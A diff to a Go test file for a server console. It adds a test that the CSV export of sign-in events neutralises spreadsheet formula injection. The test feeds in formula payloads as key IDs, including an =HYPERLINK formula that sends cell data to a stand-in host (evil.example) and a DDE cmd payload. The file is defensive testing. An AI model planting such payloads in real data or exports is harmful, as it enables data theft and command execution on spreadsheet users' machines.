@@ -3,7 +3,9 @@ package server_test
 import (
 	"context"
 	"crypto/tls"
+	"encoding/csv"
 	"encoding/json"
+	"html"
 	"io"
 	"net/http"
 	"net/http/cookiejar"
@@ -73,6 +75,18 @@ func (b *browser) post(path string, form url.Values, header http.Header) (*http.
 	defer resp.Body.Close()
 	body, _ := io.ReadAll(resp.Body)
 	return resp, string(body)
+}
+
+// downloadURL is the event history's download link for format and the
+// extra query, as the events page shows it.
+func (b *browser) downloadURL(format, query string) string {
+	b.t.Helper()
+	_, page := b.get("/console/events?" + query)
+	m := regexp.MustCompile(`href="(/console/events/download\?format=` + format + `[^"]*)"`).FindStringSubmatch(page)
+	if m == nil {
+		b.t.Fatalf("the events page has no %s download link", format)
+	}
+	return html.UnescapeString(m[1])
 }
 
 // signIn signs in through the form and returns the sign-in response.
@@ -435,5 +449,50 @@ func TestConsolePagingARelativeRange(t *testing.T) {
 	resp, page := b.get(strings.ReplaceAll(m[1], "&amp;", "&"))
 	if resp.StatusCode != http.StatusOK || strings.Count(page, "<tr data-t=") != 10 {
 		t.Errorf("the second page a second later: %d with %d rows, want the remaining 10", resp.StatusCode, strings.Count(page, "<tr data-t="))
+	}
+}
+
+// TestConsoleCSVNeutralisesFormulas downloads a record whose values an
+// outsider chose (the access key ID typed into a failed sign-in) as CSV: a
+// cell that a spreadsheet would run as a formula must not start with
+// = + - or @.
+func TestConsoleCSVNeutralisesFormulas(t *testing.T) {
+	h := servertest.Start(t)
+	ctx := context.Background()
+	outsider := newBrowser(t, h.URL)
+	formulas := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"}
+	for _, f := range formulas {
+		if resp := outsider.signIn(f, "wrong"); resp.StatusCode != http.StatusUnauthorized {
+			t.Fatalf("a sign-in with key ID %q: %d", f, resp.StatusCode)
+		}
+	}
+	b := newBrowser(t, h.URL)
+	b.signIn(h.AdminKeyID, h.AdminSecret)
+	if err := h.Server.History().WaitIndexed(ctx, h.Server.Journal().LastSeq()); err != nil {
+		t.Fatal(err)
+	}
+	resp, body := b.get(b.downloadURL("csv", "k=EventName&v=ConsoleLogin"))
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("CSV download: %d %s", resp.StatusCode, body)
+	}
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil || len(rows) != 1+len(formulas)+1 {
+		t.Fatalf("CSV download: %d rows (want a header, %d failed and 1 good sign-in), %v", len(rows), len(formulas), err)
+	}
+	found := 0
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a CSV cell a spreadsheet would run as a formula: %q", cell)
+			}
+			for _, f := range formulas {
+				if cell == "'"+f {
+					found++
+				}
+			}
+		}
+	}
+	if found != len(formulas) {
+		t.Errorf("%d of the %d typed key IDs are in the CSV as text", found, len(formulas))
 	}
 }
